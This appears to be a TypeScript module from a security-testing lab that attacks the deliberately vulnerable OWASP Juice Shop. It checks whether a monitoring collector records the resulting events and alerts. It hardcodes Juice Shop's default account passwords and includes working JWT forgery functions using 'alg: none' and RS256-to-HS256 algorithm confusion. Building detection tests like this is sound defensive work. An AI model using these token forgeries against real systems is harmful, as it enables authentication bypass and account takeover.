/**
 * Juice Shop knowledge the scenarios share: its public accounts and routes (v20.1.1), logins, and forged
 * tokens. Nothing here is specific to the practice shop.
 */
import { createHmac } from 'node:crypto';
import { jsonOf, type AttackClient } from '../http';
import { check, count, listIds, type TargetRun } from '../scenario';
import type { Check } from '../types';
import type { WindowView } from '../window';

export const ADMIN = { email: 'admin@juice-sh.op', password: 'admin123', userId: 1, basketId: 1 };
export const JIM = { email: 'jim@juice-sh.op', password: 'ncc-1701', userId: 2, basketId: 2 };
export const BENDER = { email: 'bender@juice-sh.op', password: 'OhG0dPlease1nsertLiquor!', userId: 3, basketId: 3 };

export interface LoginResult {
  status: number;
  token?: string;
  bid?: number;
  umail?: string;
  text: string;
}

export async function login(http: AttackClient, email: string, password: string): Promise<LoginResult> {
  const response = await http.postJson('/rest/user/login', { email, password });
  const body = jsonOf(response) as { authentication?: { token?: unknown; bid?: unknown; umail?: unknown } } | undefined;
  const auth = body?.authentication;
  return {
    status: response.status,
    text: response.text,
    ...(typeof auth?.token === 'string' && { token: auth.token }),
    ...(typeof auth?.bid === 'number' && { bid: auth.bid }),
    ...(typeof auth?.umail === 'string' && { umail: auth.umail }),
  };
}

const b64url = (value: string | Buffer): string => Buffer.from(value).toString('base64url');

/** An unsigned token (`alg: none`), accepted by express-jwt 0.1.3 as Juice Shop uses it. */
export function forgeNone(payload: object): string {
  return `${b64url(JSON.stringify({ typ: 'JWT', alg: 'none' }))}.${b64url(JSON.stringify(payload))}.`;
}

/** HS256 signed with the RS256 public key as the HMAC secret (algorithm confusion). */
export function forgeHs256(payload: object, publicKeyPem: string): string {
  const unsigned = `${b64url(JSON.stringify({ typ: 'JWT', alg: 'HS256' }))}.${b64url(JSON.stringify({ ...payload, iat: Math.floor(Date.now() / 1000) }))}`;
  return `${unsigned}.${createHmac('sha256', publicKeyPem).update(unsigned).digest('base64url')}`;
}

/**
 * Juice Shop serves its public key at /encryptionkeys/jwt.pub (PKCS#1, `BEGIN RSA PUBLIC KEY`, in v20; the
 * practice shop serves SPKI); the lab knows its practice shops' keys too.
 */
export async function publicKeyOf(run: TargetRun): Promise<{ pem: string; from: string } | undefined> {
  const served = await run.http.get('/encryptionkeys/jwt.pub');
  if (served.status === 200 && /-----BEGIN (?:RSA )?PUBLIC KEY-----/.test(served.text)) return { pem: served.text, from: 'GET /encryptionkeys/jwt.pub' };
  if (run.target.lab?.publicKeyPem !== undefined) return { pem: run.target.lab.publicKeyPem, from: 'the lab' };
  return undefined;
}

/** A check that at least `min` events of `type` from this target reached the collector. */
export function eventsCheck(view: WindowView, type: string, min: number, label: string, filter?: (ids: number[]) => number[]): Check {
  let ids = view.records.filter((record) => record.event?.type === type).map((record) => record.id);
  if (filter !== undefined) ids = filter(ids);
  return check(`events:${type}`, label, ids.length >= min, ids.length === 0 ? `no ${type} event reached the collector` : `${count(ids.length, `${type} event`)} (records ${listIds(ids)})`);
}

/** A check that an alert of `type` links this target's records from this scenario. */
export function alertCheck(view: WindowView, type: string, label: string, extra?: (alert: WindowView['alerts'][number]) => string | undefined): Check {
  const alerts = view.alertsOfType(type);
  if (alerts.length === 0) {
    const other = view.alerts.map((alert) => alert.type);
    return check(`alert:${type}`, label, false, `no ${type} alert${other.length > 0 ? ` (alerts seen: ${[...new Set(other)].join(', ')})` : ''}`);
  }
  const first = alerts[0]!;
  const problem = extra?.(first);
  const timing = first.afterMs !== undefined ? `, ${first.afterMs} ms after the first request` : '';
  return check(
    `alert:${type}`,
    label,
    problem === undefined,
    `${first.change === 'alert' ? 'alert' : 'open alert updated'} ${first.id.slice(0, 8)} "${first.title}" (${first.level}, key ${first.key}, count ${first.count}${timing})${problem !== undefined ? `: ${problem}` : ''}`,
  );
}

/** A small Luhn-valid card number unique to the run (a canary: no real card). */
export function canaryCard(nonce: string): string {
  const digits = `400000${(parseInt(nonce.slice(0, 8), 16) % 1_000_000_000).toString().padStart(9, '0')}`;
  let sum = 0;
  for (let i = 0; i < digits.length; i++) {
    let d = Number(digits[digits.length - 1 - i]);
    if (i % 2 === 0) {
      d *= 2;
      if (d > 9) d -= 9;
    }
    sum += d;
  }
  return `${digits}${(10 - (sum % 10)) % 10}`;
}
